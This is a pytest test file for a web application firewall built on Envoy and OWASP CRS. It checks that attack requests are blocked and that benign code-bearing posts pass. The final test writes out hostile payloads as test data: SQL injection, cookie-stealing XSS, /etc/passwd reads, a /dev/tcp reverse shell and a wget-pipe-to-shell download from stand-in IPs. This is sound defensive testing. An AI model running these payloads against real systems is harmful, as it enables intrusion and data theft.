"""The request corpus (tests/corpus, or PORTCULLIS_CORPUS: 11 benign
requests, 24 attacks) byte for byte through real Envoy with the production rule set,
`@builtin` + the embedded CRS at PL1: every request gets the verdict its
file expects, blocked requests never reach the backend, and CRS rules show
up in the Envoy log and the collector."""

import json
import os
import time
import urllib.parse
import uuid

import pytest

import harness
from bench_support import CorpusRequest, send_raw  # scripts/, on the path harness sets

CORPUS = harness.corpus_dir()
FILES = sorted(f for f in os.listdir(CORPUS) if f.endswith(".json")) if os.path.isdir(CORPUS) else []


def test_corpus_is_present():
    assert len(FILES) >= 30, f"no request corpus at {CORPUS} (set PORTCULLIS_CORPUS)"


def send(envoy, name, rid):
    """Corpus request `name` byte for byte, with x-request-id `rid`: (request, status, body)."""
    req = CorpusRequest(os.path.join(CORPUS, name))
    status, body = send_raw(envoy.port, req, extra_headers=[("x-request-id", rid)])
    return req, status, body


@pytest.mark.parametrize("name", FILES)
def test_corpus_request_gets_its_expected_verdict(production, backend, name):
    rid = "corpus-" + uuid.uuid4().hex
    req, status, body = send(production, name, rid)
    if req.expect == "block":
        assert status == 403, f"{name}: expected a block, got {status}: {body[:200]!r}"
        assert backend.saw(rid) == [], f"{name}: the backend saw a blocked request"
    else:
        assert status == 200, f"{name}: expected to pass, got {status}: {body[:200]!r}"
        assert len(backend.saw(rid)) == 1


def test_crs_rules_are_in_the_log_and_the_verdict(crs_only, backend, collector):
    rid = "corpus-" + uuid.uuid4().hex
    _, status, _ = send(crs_only, "a03-sqli-query-union.json", rid)
    assert status == 403
    assert backend.saw(rid) == []
    v = collector.wait_verdict(rid)
    assert v is not None, "no verdict for a03"
    ids = {m["id"] for m in v["matched"]}
    assert {942100, 949110} <= ids, ids
    assert "sqli" in v["attack_types"]
    assert v["application_id"] == "crs"
    assert v["anomaly_score"] >= 5
    # Envoy writes its log file on a timer: on a loaded machine the line may
    # land after the verdict has.
    deadline = time.monotonic() + 10
    log = crs_only.log_text()
    while not ('[id "942100"]' in log and rid in log) and time.monotonic() < deadline:
        time.sleep(0.1)
        log = crs_only.log_text()
    assert '[id "942100"]' in log and rid in log, crs_only.log_tail()


# Values CRS at PL1 blocks on its own and the production set lets through,
# because @builtin's 95-confirm.conf confirms CRS's attack hits on the same
# value (docs/detection.md); the attack next to each still blocks.
PNG = "data:image/png;base64,iVBORw0KGgo" + "AAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ" * 8
CONFIRMED_BENIGN = [
    ("a search of words", "GET", "/search?q=union+station+select+seats", None, None),
    ("prose with a semicolon", "GET", "/search?q=The+exec+committee+meets+on+Tuesday%3B+sleep+well+before+the+vote", None, None),
    ("a PNG avatar", "POST", "/api/v1/profile/avatar", '{"avatar": "%s"}' % PNG, "application/json"),
    ("a GraphQL query", "POST", "/graphql",
     '{"query": "query Orders($first: Int!) { orders(first: $first) { id total } }", "variables": {"first": 12}}',
     "application/json"),
    ("a forum question with Python in a fence", "POST", "/api/forum/questions",
     json.dumps({"title": "HOME is empty", "body": "I tried this:\n\n```python\nimport os\n"
                 "print(os.environ.get('HOME'))\n```\n\nbash: command not found. Works when I type it myself."}),
     "application/json"),
    ("a Python main guard", "POST", "/forum/posts",
     "title=Entry+point&body=" + urllib.parse.quote_plus("if __name__ == '__main__':\n    main()"),
     "application/x-www-form-urlencoded"),
    ("a chat line naming a file", "POST", "/api/chat.postMessage",
     json.dumps({"text": "who owns /etc/nginx/conf.d/shop.conf? someone changed the upstream"}), "application/json"),
    ("a comment with a command in inline code", "POST", "/api/comments",
     json.dumps({"comment": "lol the bit about `rm -rf node_modules && npm install` being the universal fix is painfully true"}),
     "application/json"),
    ("a Markdown table of shell operators", "POST", "/api/v1/threads/7/replies",
     json.dumps({"body": "| Operator | Meaning |\n|---|---|\n| `&&` | run next if previous succeeded |\n"
                 "| `;` | run next regardless |\n\n```sh\nmake && make install || echo \"build failed\"\n```"}),
     "application/json"),
    ("a shell pipeline into text filters", "POST", "/forum/posts",
     "title=Largest+downloads&body=" + urllib.parse.quote_plus("ls -la ~/Downloads | sort -k5 -n | tail"),
     "application/x-www-form-urlencoded"),
    ("a shell loop in a code field", "POST", "/api/forum/questions",
     json.dumps({"title": "It hangs", "language": "bash",
                 "code": "for i in $(seq 1 5); do curl -s https://api.example.com/health; sleep 2; done"}),
     "application/json"),
    ("a check whose && and || only print", "POST", "/api/forum/questions",
     json.dumps({"title": "Is it up?", "code": "ping -c 4 example.com && echo up || echo down"}), "application/json"),
    ("a clean and the project's build", "POST", "/forum/posts",
     "title=Build+fails&body=" + urllib.parse.quote_plus("rm -r build/ && make -j4"), "application/x-www-form-urlencoded"),
    ("process ids printed by awk and signalled", "POST", "/forum/posts",
     "title=Stop+node&body=" + urllib.parse.quote_plus("ps aux | grep node | awk '{print $2}' | xargs kill"),
     "application/x-www-form-urlencoded"),
    ("a PHP prepared statement", "POST", "/api/forum/questions",
     json.dumps({"title": "It hangs", "code": "$stmt = $pdo->prepare('SELECT * FROM posts WHERE id = ?');\n$stmt->execute([$id]);"}),
     "application/json"),
    ("a lone dialog with a literal message", "POST", "/api/forum/questions",
     json.dumps({"title": "Toast", "code": "alert('Saved!'); // TODO replace with a toast"}), "application/json"),
]


@pytest.mark.parametrize("what,method,path,body,ctype", CONFIRMED_BENIGN, ids=[c[0] for c in CONFIRMED_BENIGN])
def test_confirmed_crs_hits_pass_in_production_only(production, crs_only, backend, what, method, path, body, ctype):
    def send_one(envoy):
        rid = "confirm-" + uuid.uuid4().hex
        h = {"x-request-id": rid}
        status, _, _ = envoy.get(path, h) if method == "GET" else envoy.post(path, body.encode(), ctype, h)
        return status, rid
    status, _ = send_one(crs_only)
    assert status == 403, f"{what}: CRS alone no longer blocks it ({status}); the test lost its point"
    status, rid = send_one(production)
    assert status == 200, f"{what}: production blocked it ({status})"
    assert len(backend.saw(rid)) == 1


def test_attacks_shaped_like_confirmed_values_still_block(production, backend):
    for path in ("/search?q=1+union+select+password+from+users--", "/search?q=x%3B+sleep+5",
                 "/search?q=%3Cimg+src%3Dx+onerror%3Dalert(document.cookie)%3E",
                 # a pipeline like the one above, but its filter reads a file
                 "/search?q=" + urllib.parse.quote_plus("ls -la | tail config.php"),
                 "/search?q=" + urllib.parse.quote_plus("grep root /etc/passwd"),
                 # a loop like the one above, but its list is a command's output
                 "/search?q=" + urllib.parse.quote_plus("for i in $(whoami); do echo $i; done"),
                 # a build step like the one above, then a command
                 "/search?q=" + urllib.parse.quote_plus("git status && id"),
                 # a dialog like the one above, reaching the cookie
                 "/search?q=" + urllib.parse.quote_plus("alert(document.cookie)//")):
        rid = "confirm-" + uuid.uuid4().hex
        status, _, _ = production.get(path, {"x-request-id": rid})
        assert status == 403, f"{path}: {status}"
        assert backend.saw(rid) == []
    # In a Markdown document CRS's hits and @builtin's generic shell rules do
    # not count; what an attacker runs (4230170), libinjection and the XSS
    # sinks still do.
    for doc in ("This is what I tried:\n\n```\n' or '1'='1' --\n```\n\nAny idea?",
                "Look:\n\n```\n<script>alert(document.cookie)</script>\n```",
                "Fails here:\n\n```\n127.0.0.1; cat /etc/passwd\n```",
                "Fails here:\n\n```\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n```\n\nthanks",
                "We saw `wget -qO- 198.51.100.23/k|sh` in the logs, is that bad?"):
        rid = "confirm-" + uuid.uuid4().hex
        body = json.dumps({"title": "Help", "body": doc}).encode()
        status, _, _ = production.post("/api/forum/questions", body, "application/json", {"x-request-id": rid})
        assert status == 403, f"{doc!r}: {status}"
        assert backend.saw(rid) == []
